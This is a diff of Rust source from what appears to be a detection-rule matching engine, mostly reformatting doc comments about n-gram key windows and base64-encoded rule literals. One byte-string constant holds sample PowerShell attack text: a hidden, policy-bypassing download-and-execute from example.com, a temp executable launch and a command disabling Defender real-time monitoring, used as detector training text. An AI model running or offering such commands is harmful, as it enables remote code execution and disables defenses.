@@ -101,7 +101,11 @@ static COMMON_WINDOWS: [u64; 64] = {
 /// English. Sigma rules list such base64 at each of its three alignments (`base64offset`), and
 /// their windows that encode common characters (`ZQB`, `AGU`: an `e`) fill every encoded blob,
 /// so those windows are keys of last resort for a literal (see [`BASE64_WINDOWS`]).
-const BASE64_TEXT: &[u8] = b"powershell -nop -w hidden -noprofile -executionpolicy bypass -enc iex (new-object net.webclient).downloadstring('http://example.com/a.ps1'); invoke-expression start-process -filepath $env:temp\\update.exe -argumentlist /c whoami; set-mppreference -disablerealtimemonitoring $true; [system.convert]::frombase64string(get-content) the of and to in is that for with on as it this are from write-host out-file";
+const BASE64_TEXT: &[u8] = b"powershell -nop -w hidden -noprofile -executionpolicy bypass -enc \
+iex (new-object net.webclient).downloadstring('http://example.com/a.ps1'); invoke-expression \
+start-process -filepath $env:temp\\update.exe -argumentlist /c whoami; set-mppreference \
+-disablerealtimemonitoring $true; [system.convert]::frombase64string(get-content) the of and \
+to in is that for with on as it this are from write-host out-file";
 
 /// The base64 alphabet's character for the 6-bit value `v`.
 // Each arm's sum stays within its range of the alphabet.
@@ -281,8 +285,8 @@ pub(crate) fn commonness(b: u8) -> u32 {
 /// Where literal `lit` is best keyed: the end of its key window, the whole literal when it is at
 /// most [`GRAM`] bytes long, else its least common window of [`GRAM`] bytes, the first of equals
 /// (windows of [`COMMON_TEXT`] last, then windows of encoded [`BASE64_TEXT`], then by the
-/// commonness of their bytes). The compiler records
-/// it in the pack for every string (`key_window_start`); loading only checks it.
+/// commonness of their bytes). The compiler records it in the pack for every string
+/// (`key_window_start`); loading only checks it.
 fn key_window_end(lit: &[u8]) -> usize {
     key_window_end_balanced(lit, |_| 0)
 }
@@ -749,7 +753,7 @@ pub(crate) struct GramIndex {
     short_start: Option<usize>,
     /// Where its run table starts in the store's `runs`, for an index (not strided) with a key of
     /// one byte repeated (`;;;`, three spaces): by byte (folded), the longest literal keyed by a
-    /// window of that byte alone. A scan skips most of a run of that byte (see [`View::run_skips`]).
+    /// window of that byte alone. A scan skips most of a run of that byte ([`View::run_skips`]).
     runs_start: Option<usize>,
     /// Table tests per byte of text (per chunk, strided).
     tests_per_byte: u64,
@@ -1136,8 +1140,8 @@ impl GramStore {
     /// of `ix` (ASCII case folded; `start` is where it begins, `len` its length; the literals' bytes are in
     /// `arena_text`), in order of where the occurrence's key window ends, until `on_hit` returns
     /// `true`. Occurrences deep in a run of one byte that repeat one already reported there are
-    /// left out ([`View::run_skips`]). Returns whether it did. Adds the work it does to `work` (`on_hit` adds its own),
-    /// at most [`GramIndex::scan_bound`].
+    /// left out ([`View::run_skips`]). Returns whether it did. Adds the work it does to `work`
+    /// (`on_hit` adds its own), at most [`GramIndex::scan_bound`].
     ///
     /// Not inlined: the scan loops' locals stay out of the frame of the VM that calls it (the
     /// driver evaluates on a kernel stack budget, and the VM's deepest path is a regex search).
